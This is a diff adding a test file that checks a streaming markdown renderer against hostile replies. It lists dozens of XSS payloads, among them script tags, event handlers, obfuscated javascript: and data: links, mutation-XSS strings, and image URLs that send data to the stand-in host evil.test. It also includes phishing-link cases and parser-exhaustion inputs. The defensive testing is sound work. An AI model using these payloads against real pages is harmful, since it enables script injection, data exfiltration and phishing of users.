@@ -1,0 +1,257 @@
+/** What a hostile reply may try: nothing runs, nothing loads, nothing leads where it should not, nothing hangs. */
+import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { createMarkdownRenderer } from '../../src/ui/markdown/stream-renderer';
+
+/** Addresses that answer nobody; `window.pwned` is what a script would set. */
+const payloads = [
+  '<script>window.pwned = 1</script>',
+  '<script src="https://evil.test/x.js"></script>',
+  '<img src=x onerror="window.pwned=1">',
+  '<img src="https://evil.test/pixel.png">',
+  '<IMG """><SCRIPT>window.pwned=1</SCRIPT>">',
+  '<svg onload="window.pwned=1">',
+  '<svg><script href="https://evil.test/x.js"/></svg>',
+  '<svg><image href="https://evil.test/x.png"></svg>',
+  '<svg><use href="https://evil.test/x.svg#a"></use></svg>',
+  '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
+  '<iframe src="https://evil.test"></iframe>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<object data="https://evil.test/x.swf"></object>',
+  '<embed src="https://evil.test/x">',
+  '<video src="https://evil.test/x" autoplay poster="https://evil.test/p"></video>',
+  '<audio src="https://evil.test/x" onerror="window.pwned=1"></audio>',
+  '<link rel="stylesheet" href="https://evil.test/x.css">',
+  '<link rel="prefetch" href="https://evil.test/x">',
+  '<link rel="dns-prefetch" href="//evil.test">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+  '<base href="https://evil.test/">',
+  '<style>@import "https://evil.test/x.css";</style>',
+  '<style>body{background:url(https://evil.test/x)}</style>',
+  '<p style="background:url(https://evil.test/x)">styled</p>',
+  '<form action="https://evil.test"><button autofocus onfocus="window.pwned=1">go</button></form>',
+  '<input autofocus onfocus="window.pwned=1">',
+  '<details open ontoggle="window.pwned=1">x</details>',
+  '<body onload="window.pwned=1">',
+  '<marquee onstart="window.pwned=1">x</marquee>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror="window.pwned=1">',
+  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+  '<template><script>window.pwned=1</script></template>',
+  '<textarea><img src=x onerror=window.pwned=1></textarea>',
+  '<a href="javascript:window.pwned=1">x</a>',
+  '<a href="https://evil.test" ping="https://evil.test/ping">x</a>',
+  '<x onclick="window.pwned=1" style="position:fixed;inset:0">click</x>',
+  '<!--<img src="--><img src=x onerror=window.pwned=1//">',
+  '<![CDATA[<script>window.pwned=1</script>]]>',
+  '<?xml-stylesheet href="https://evil.test/x.css"?>',
+  '<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.test">]>',
+  '[x](javascript:window.pwned=1)',
+  '[x](JaVaScRiPt:window.pwned=1)',
+  '[x](java\tscript:window.pwned=1)',
+  '[x](<java\nscript:window.pwned=1>)',
+  '[x](javascript&colon;window.pwned=1)',
+  '[x](&#106;avascript:window.pwned=1)',
+  '[x](&#x6A;&#x61;vascript&#58;window.pwned=1)',
+  '[x](\u0001javascript:window.pwned=1)',
+  '[x](%6aavascript:window.pwned=1)',
+  '[x](vbscript:msgbox)',
+  '[x](data:text/html,<script>window.pwned=1</script>)',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](blob:https://evil.test/1)',
+  '[x](file:///etc/passwd)',
+  '[x](about:blank)',
+  '[x](filesystem:https://evil.test/x)',
+  '[x](view-source:https://evil.test)',
+  '[x](//evil.test)',
+  '[x](/settings?delete=everything)',
+  '[x](#settings)',
+  '[x](https:\\\\evil.test)',
+  '[x](https://a:b@evil.test)',
+  '[https://bank.test](https://evil.test)',
+  '[x][1]\n\n[1]: javascript:window.pwned=1',
+  '[x][1]\n\n[1]: <javascript:window.pwned=1> "t"',
+  '![x](https://evil.test/?q=secret)',
+  '![x](javascript:window.pwned=1)',
+  '![x](data:image/svg+xml,<svg onload=window.pwned=1>)',
+  '![x" onerror="window.pwned=1](https://evil.test/x.png)',
+  '![x][1]\n\n[1]: https://evil.test/x.png',
+  '[![x](https://evil.test/x.png)](javascript:window.pwned=1)',
+  '[x](https://evil.test "\\" onmouseover=\\"window.pwned=1")',
+  '[x](https://evil.test/"onmouseover="window.pwned=1)',
+  '<javascript:window.pwned=1>',
+  '<data:text/html,x>',
+  'javascript:window.pwned=1 and www.evil.test/"onclick="window.pwned=1',
+  '`<img src=x onerror=window.pwned=1>`',
+  '```html"onload="window.pwned=1\n<script>window.pwned=1</script>\n```',
+  '```<script>\n</code></pre><script>window.pwned=1</script>\n```',
+  '    <script>window.pwned=1</script>',
+  '| <img src=x onerror=window.pwned=1> |\n|---|\n| </table><script>window.pwned=1</script> |',
+  '- [x] <input onfocus=window.pwned=1 autofocus>\n- <script>window.pwned=1</script>',
+  '> <iframe src="https://evil.test">\n\n# <script>window.pwned=1</script>',
+  '&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;',
+  '<script>window.pwned=1</script'.repeat(3),
+  '[a]: https://evil.test\n[__proto__]: https://evil.test\n\n[a] [__proto__] [constructor] [toString]',
+];
+
+/** All that a reply may put on the page. */
+const elements = new Set(
+  'H1 H2 H3 H4 H5 H6 P UL OL LI LABEL INPUT SPAN BLOCKQUOTE PRE CODE HR BR DIV TABLE THEAD TBODY TR TH TD EM STRONG DEL A'.split(
+    ' ',
+  ),
+);
+const attributes = new Set('class start type disabled checked data-align href rel target title'.split(' '));
+
+let target: HTMLElement;
+const violations: string[] = [];
+const requests: string[] = [];
+
+beforeAll(() => {
+  // The page's policy as far as it bears on this: a refused request is an event here, and an HTML string throws.
+  const policy = document.createElement('meta');
+  policy.httpEquiv = 'Content-Security-Policy';
+  policy.content =
+    "style-src 'self'; img-src 'none'; media-src 'none'; object-src 'none'; frame-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'";
+  document.head.append(policy);
+  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
+    violations.push(`${violatedDirective} ${blockedURI}`);
+  });
+  new PerformanceObserver((list) => {
+    requests.push(...list.getEntries().map(({ name }) => name));
+  }).observe({ type: 'resource' });
+  target = document.createElement('div');
+  document.body.append(target);
+});
+
+beforeEach(() => {
+  target.replaceChildren();
+});
+
+test('the policy of this page is in force', () => {
+  expect(() => {
+    target.innerHTML = '<b>markup</b>';
+  }).toThrow('TrustedHTML');
+});
+
+describe.for(payloads.map((payload) => ({ payload })))('$payload', ({ payload }) => {
+  test.for(['at once', 'piece by piece', 'in a list, a table and a quote'])('is harmless %s', async (way) => {
+    const line = payload.replaceAll('\n', ' ');
+    const text = way.startsWith('in') ? `- ${line}\n\n| ${line} |\n|---|\n| ${line} |\n\n> ${line}` : payload;
+    const renderer = createMarkdownRenderer(target);
+    const step = way === 'piece by piece' ? 1 : text.length;
+    for (let end = step; end <= text.length; end += step) renderer.update(text.slice(0, end));
+    renderer.end();
+
+    for (const element of target.querySelectorAll('*')) {
+      expect(elements).toContain(element.tagName);
+      for (const name of element.getAttributeNames()) expect(attributes).toContain(name);
+      if (element instanceof HTMLAnchorElement) {
+        expect(['https:', 'http:', 'mailto:']).toContain(element.protocol);
+        expect(element.rel).toBe('noopener noreferrer nofollow');
+        expect(element.target).toBe('_blank');
+      }
+      if (element instanceof HTMLInputElement) expect(element.disabled).toBe(true);
+    }
+    // Time for what would load or run by itself.
+    await new Promise((resolve) => setTimeout(resolve));
+    expect(window).not.toHaveProperty('pwned');
+  });
+});
+
+test('none of them asked for anything or broke the policy', async () => {
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  // The one violation is of the first test, on purpose.
+  expect(violations.filter((violation) => !violation.startsWith('require-trusted-types-for'))).toEqual([]);
+  expect(violations).toHaveLength(1);
+  expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
+});
+
+test.for([
+  { markup: '<b>bold</b> <br> <img src=x>', shown: '<b>bold</b> <br> <img src=x>' },
+  { markup: '<div>\n  <p>a</p>\n</div>', shown: '<div>\n  <p>a</p>\n</div>' },
+  { markup: '[x](javascript:alert(1))', shown: '[x](javascript:alert(1))' },
+  { markup: '![a cat](https://c.test/cat.png)', shown: 'a cat (c.test)' },
+  { markup: '[https://bank.test](https://evil.test)', shown: 'https://bank.test (evil.test)' },
+  { markup: '[my bank](https://bank.test@evil.test)', shown: 'my bank (evil.test)' },
+  { markup: '[bank](https://xn--bnk-5na.test)', shown: 'bank (xn--bnk-5na.test)' },
+  { markup: '[bаnk.test](https://bank.test)', shown: 'bаnk.test (bank.test)' },
+  { markup: '[a](https://a.test)', shown: 'a' },
+])('$markup is shown as $shown', ({ markup, shown }) => {
+  const renderer = createMarkdownRenderer(target);
+  renderer.update(markup);
+  renderer.end();
+  expect(target.textContent).toBe(shown);
+});
+
+/** Each repeated to 100,000 characters: nesting without end, and what makes a careless pattern go back and forth. */
+const bombs = [
+  ...[
+    '[',
+    '![',
+    '*',
+    '**a ',
+    '_a_',
+    '__a__',
+    'a*',
+    '~',
+    '`',
+    '``a',
+    '<',
+    '<a b="',
+    '<!--',
+    '!',
+    '\\',
+    '&',
+    '(',
+    '|',
+  ],
+  ...[
+    '>',
+    '> ',
+    '- ',
+    '1. ',
+    '- > ',
+    '  - a\n',
+    '>a\nb\n',
+    '>>a\nb\n',
+    '-\n',
+    '=\n',
+    '\n\n',
+    '```\n',
+    '\t',
+    '|-',
+    '#',
+  ],
+  ...[
+    '[a](',
+    '[a](b',
+    '[a][',
+    '[[a]]',
+    '[a]: b\n',
+    '[a]:\n',
+    '[a]: b "',
+    'a|b\n-|-\n',
+    '<div>\n',
+    'a@',
+    'http://a',
+  ],
+];
+
+test.for(bombs)('100,000 characters of %j neither hang nor break it, nor nest beyond measure', (unit) => {
+  const text = unit.repeat(100_000 / unit.length);
+  const renderer = createMarkdownRenderer(target);
+  for (let end = 5000; end < text.length; end += 5000) renderer.update(text.slice(0, end));
+  renderer.update(text);
+  renderer.end();
+  let depth = 0;
+  for (let nodes: Element[] = [target]; nodes.length > 0; depth++)
+    nodes = nodes.flatMap((node) => [...node.children]);
+  // 16 levels of lists, of two elements each, and 16 of emphasis.
+  expect(depth).toBeLessThan(60);
+  if (/^[[<!&(]$/.test(unit)) expect(target.textContent).toHaveLength(text.length);
+});
+
+test('a row is not filled up for a header of thousands of cells', () => {
+  const renderer = createMarkdownRenderer(target);
+  renderer.update(`${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${'x\n'.repeat(5000)}`);
+  renderer.end();
+  expect(target.querySelectorAll('*').length).toBeLessThan(100);
+});
